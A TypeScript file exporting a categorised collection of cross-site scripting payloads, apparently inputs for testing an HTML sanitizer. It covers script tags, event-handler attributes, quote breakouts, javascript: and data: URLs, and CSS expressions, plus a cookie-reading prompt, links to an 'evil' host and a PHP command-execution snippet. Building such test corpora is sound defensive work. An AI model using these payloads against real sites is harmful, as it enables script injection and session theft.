// Markup that runs code, by class, each line one value as it would come in.

const lines = (text: string): readonly string[] => text.split("\n").filter((line) => line !== "");

/** The same value for each of several events. */
const EVENTS = lines(`
onabort
onafterprint
onanimationend
onauxclick
onbeforeinput
onbeforeunload
onblur
oncanplay
onchange
onclick
oncontextmenu
oncopy
oncuechange
ondblclick
ondrag
ondragstart
ondrop
ondurationchange
onended
onerror
onfocus
onfocusin
onformdata
onfullscreenchange
ongotpointercapture
onhashchange
oninput
oninvalid
onkeydown
onkeypress
onload
onloadedmetadata
onloadstart
onmessage
onmousedown
onmouseenter
onmouseover
onoffline
ononline
onpagehide
onpageshow
onpaste
onpause
onplay
onpointerover
onpopstate
onprogress
onratechange
onreadystatechange
onrepeat
onreset
onresize
onscroll
onscrollend
onsearch
onseeked
onselect
onselectstart
onshow
onstalled
onstart
onstorage
onsubmit
onsuspend
ontimeupdate
ontoggle
ontouchstart
ontransitionend
onunhandledrejection
onunload
onvolumechange
onwaiting
onwebkitanimationend
onwheel
onbegin
onend
onfinish
onbounce
oncut
onclose
oncancel`);

export const XSS_ATTACKS: Readonly<Record<string, readonly string[]>> = {
  "tags that run or load": lines(`
<script>alert(1)</script>
<SCRIPT SRC=//x></SCRIPT>
<script
<script/x>alert(1)</script>
<script\t>alert(1)</script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)" />
/char_test?mime=text/xml&body=<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)" />
<script xmlns="http://www.w3.org/1999/xhtml">setTimeout("top.frame2.location="javascript:(function
www.github.com<script><img><iframe>
text<script>alert(1)
<iframe src=//x>
<iframe srcdoc="<b>">
<embed src=//x>
<object data="data:text/html;base64,PHNj">
<object data=//x>
<applet code=x>
<base href=//evil/>
<link rel=stylesheet href=//evil>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import "//x"</style>
<style>*{background:url(//x)}</style>
<svg>
<svg/onload=alert(1)>
/get/index.php/<svg/onload=alert()
<math><a xlink:href="javascript:alert(1)">
<xss onbeforehellfreezes=aler%77(1)>
<isindex type=image src=1 onerror=alert(1)>
<marquee onstart=alert(1)>
<bgsound src="javascript:alert(1)">
<frameset onload=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<html xmlns="http://www.w3.org/1999/xhtml"><x:script>`),
  "events in tags": EVENTS.map((event) => `<x ${event}=alert(1)>`),
  "events behind a quote": EVENTS.map((event) => `" ${event}="alert(1)" x="`),
  "other ways to an event": lines(`
<img src=x onerror=alert(1)>
<img src=x:x onerror="alert(1)"
<img/src/onerror=alert(1)>
<img src="x"onerror=alert(1)>
<img src=\`x\` onerror=alert(1)>
<IMG SRC=x OnErRoR=alert(1)>
<img src=x onerror = alert(1)>
<img src=x onerror\r=\ralert(1)>
<img src=x\u000conerror=alert(1)>
<a/onmouseover=alert(1)>
<p/onclick=alert(1)//
<x onpointerrawupdate=alert(1)>
<x oninventedevent=alert(1)>
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror="alert(1)">
<title><img src=x onerror=alert(1)></title>
<a title="<img src=x onerror=alert(1)
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
"><svg onload=alert(1)>
'><img src=x onerror=alert(1)>
"onmouseover='prompt(document.cookie)'"
/get/"onmouseover='prompt(document.cookie)'"
' onfocus='alert(1)' autofocus='
' autofocus onfocus=alert(1)//
" autofocus onfocus=alert(1) x="
\` onerror=alert(1)
x onclick=alert(1)
x/y onclick=alert\`1\`
x" onclick="location=name
x' onclick=alert&lpar;1&rpar;
onclick=alert(1)`),
  addresses: lines(`
<a href="javascript:alert(1)">x</a>
<a href=javascript:alert(1)>
<a href='JaVaScRiPt:alert(1)'>
<a href="java\tscript:alert(1)">
<a href="java\u000bscript:alert(1)">
<a href="  javascript:alert(1)">
<a href="\u0001javascript:alert(1)">
<a href="&#106;avascript:alert(1)">
<a href="&#x6A;avascript:alert(1)">
<a href="&#0000106avascript:alert(1)">
<a href=javascript&colon;alert(1)>
<a href="java&Tab;script:alert(1)">
<a href="java&NewLine;script:alert(1)">
<a href="vbscript:msgbox(1)">
<a href="data:text/html,<b>x</b>">
<a href="data:text/html;base64,PHNjcmlwdD4=">
<img src="javascript:alert(1)">
<form action="javascript:alert(1)"><button>
<button formaction=javascript:alert(1)>
<input type=image src="javascript:alert(1)">
<video poster=javascript:alert(1)>
<table background="javascript:alert(1)">
<a xlink:href="javascript:alert(1)">
<svg><set attributeName=href to=javascript:alert(1)>
<x attributeName=href>
<x datasrc=#y>
<iframe src="view-source:x">
" href="javascript:alert(1)
' href='data:text/html,x
x href=javascript:alert(1)
javascript:alert(1)
  JaVaScRiPt:alert(1)
javascript://%0aalert(1)
java\tscript:alert(1)
javascript: alert(1)
data:text/html,<b>x
vbscript:msgbox(1)`),
  "styles and declarations": lines(`
<div style="width:expression(alert(1))">
<div style="background:url(javascript:alert(1))">
<div style="behavior:url(x)">
<div style="-moz-binding:url(x)">
<div style="w\\idth:1">
<div style="wi/**/dth:expr">
<p style="background:url(//x)">
" style="background:url(javascript:alert(1))
x style=width:expression(alert(1))
<!--[if gte IE 4]><b>x</b><![endif]-->
<!ENTITY x "y">
<?import namespace="t">
<?php \`id\`; ?>
<?xml-stylesheet href="javascript:alert(1)"?>`),
};
